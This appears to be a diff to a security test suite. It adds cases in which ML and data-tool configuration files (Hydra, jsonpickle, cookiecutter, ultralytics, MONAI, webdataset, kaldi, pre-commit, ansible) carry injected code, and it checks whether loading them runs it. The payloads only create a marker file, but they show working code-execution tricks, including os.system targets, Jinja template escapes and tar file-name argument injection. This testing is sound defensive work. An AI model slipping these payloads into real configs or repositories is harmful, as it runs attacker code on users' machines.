@@ -167,7 +167,52 @@ def named_things() -> Iterator[Case]:
                    "from diffusers import DiffusionPipeline; DiffusionPipeline.from_pretrained(folder, custom_pipeline=folder + '/pipe.py', trust_remote_code=True)", ("diffusers",))
 
 
+def commands() -> Iterator[Case]:
+    """Files of data whose tools run shell commands or Python that stand in them."""
+    target = {"_target_": "os.system", "command": SHELL}
+    yolo = "from ultralytics import YOLO; YOLO(folder + '/yolov8n.yaml')"
+    yield Case("ultralytics_list", "named in a configuration",
+               {"yolov8n.yaml": "nc: 2\nscales: {n: [0.33, 0.25, 1024]}\nactivation: \"[torch.nn.SiLU(), open('PWNED', 'w')][0]\"\n"
+                                "backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [[0], 1, Detect, [nc]]\n"}, yolo, ("ultralytics",))
+    yield Case("ultralytics_download", "named in a configuration",
+               {"data.yaml": "path: nowhere\ntrain: images\nval: images\nnames: {0: a}\ndownload: |\n  with open('PWNED', 'w') as f:\n    pass\n"},
+               "from ultralytics.data.utils import check_det_dataset; check_det_dataset(folder + '/data.yaml')", ("ultralytics",))
+    yield Case("monai_list", "named in a configuration", {"configs/inference.json": json.dumps({"device": f"$[{CODE}][0]"})},
+               "from monai.bundle import ConfigParser; p = ConfigParser(); p.read_config(folder + '/configs/inference.json'); p.get_parsed_content('device')", ("monai",))
+    for name, path in (("text", "config.txt"), ("readme", "README.md")):
+        yield Case("hydra_in_" + name, "named in a configuration", {path: "a:\n  _target_: os.system\n  command: touch PWNED\n"},
+                   f"from hydra.utils import instantiate; from omegaconf import OmegaConf; instantiate(OmegaConf.load(folder + '/{path}'))", ("hydra",), True)
+    yield Case("jsonpickle_in_text", "named in a configuration", {"model.txt": json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]})},
+               "import jsonpickle; jsonpickle.decode(open(folder + '/model.txt').read())", ("jsonpickle",))
+    key = "json://" + json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]})
+    yield Case("jsonpickle_key", "named in a configuration", {"model.json": json.dumps({key: 1})},
+               "import jsonpickle; jsonpickle.decode(open(folder + '/model.json').read(), keys=True)", ("jsonpickle",))
+    yield Case("spacy_project", "shell", {"project.yml": "title: t\ncommands:\n  - name: download\n    script: [\"touch ../here/PWNED\"]\n"},
+               "import subprocess, sys; subprocess.run([sys.executable, '-m', 'weasel', 'run', 'download', folder])", ("weasel",))
+    yield Case("pre_commit", "shell", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: touch ../here/PWNED\n"
+                                                                  "    language: system\n    always_run: true\n    pass_filenames: false\n"},
+               "import subprocess, sys; subprocess.run(f'git init -q; git add .; {sys.executable} -m pre_commit run -a', shell=True, cwd=folder)", ("pre_commit",))
+    yield Case("ansible", "shell", {"playbook.yml": "- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n  - shell: touch ../here/PWNED\n    args: {chdir: .}\n"},
+               "import subprocess, sys; subprocess.run([sys.executable, '-m', 'ansible.cli.playbook', folder + '/playbook.yml'], cwd=folder)", ("ansible",))
+    yield Case("cookiecutter_key", "Jinja", {"cookiecutter.json": json.dumps({"project": "x", "d": {"{{ lipsum.__globals__.os.system('touch PWNED') }}": 1}}),
+                                             "{{cookiecutter.project}}/a.txt": "x"},
+               "import os, sys; from cookiecutter.main import cookiecutter; cookiecutter(folder, no_input=True, output_dir='.')", ("cookiecutter",))
+    yield Case("yaml_front_matter_of_broken_text", "YAML", {"README.md": f"# Model\n: {{{{\n---\nx: {APPLY} [{SHELL}]\n---\n"},
+               "import yaml; yaml.unsafe_load(open(folder + '/README.md').read().split('---\\n')[1])", ("yaml",))
+    yield Case("webdataset_pipe", "shell", {"shards.json": json.dumps({"urls": ["pipe:touch PWNED; cat /dev/null"]})},
+               "import json, webdataset; list(webdataset.WebDataset(json.load(open(folder + '/shards.json'))['urls'], shardshuffle=False))", ("webdataset",))
+    yield Case("kaldi_pipe", "shell", {"feats.txt": "a touch PWNED |\n"}, "import kaldiio; kaldiio.load_scp(folder + '/feats.txt')['a']", ("kaldiio",))
+    yield Case("file_names_of_text", "shell", {"--checkpoint=1": "", "--checkpoint-action=exec=sh README.md": "x", "README.md": "touch ../here/PWNED\n", "weights.txt": "x" * 20000},
+               "import subprocess; subprocess.run('tar cf ../a.tar *', shell=True, cwd=folder)")
+    yield Case("logging_in_text", "named in a configuration",
+               {"logging.txt": "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\nargs=('PWNED',)\n"},
+               "import logging.config; logging.config.fileConfig(folder + '/logging.txt')", (), True)
+    yield Case("hydra_flow", "named in a configuration", {"model_config.yaml": json.dumps({"model": target})},
+               "from hydra.utils import instantiate; from omegaconf import OmegaConf; instantiate(OmegaConf.load(folder + '/model_config.yaml'))", ("hydra",), True)
+
+
 def cases() -> Iterator[Case]:
     yield from yaml_cases()
     yield from hyperpyyaml()
     yield from named_things()
+    yield from commands()
